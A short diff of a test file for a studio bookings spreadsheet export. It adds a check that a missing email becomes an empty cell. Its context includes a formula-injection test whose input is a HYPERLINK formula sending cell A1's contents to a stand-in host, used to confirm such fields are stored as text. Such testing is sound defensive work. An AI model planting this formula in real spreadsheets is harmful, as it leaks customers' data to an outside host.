@@ -45,6 +45,11 @@ it("is a file that nobody keeps, for admins alone", async () => {
   expect((await plain.get(EXPORT)).status).toBe(403);
 });
 
+it("what nobody knows of a couple that has called is an empty cell", async () => {
+  await newBooking(studio, { email: null, phone: "+1 323 555 0101" });
+  expect((await sheet()).rows).toMatchObject([{ Email: "" }]);
+});
+
 it("S28 a couple whose every field begins like a formula is text in each cell", async () => {
   await newBooking(studio, {
     brideName: '=HYPERLINK("https://e.example?"&A1,"Ana")',
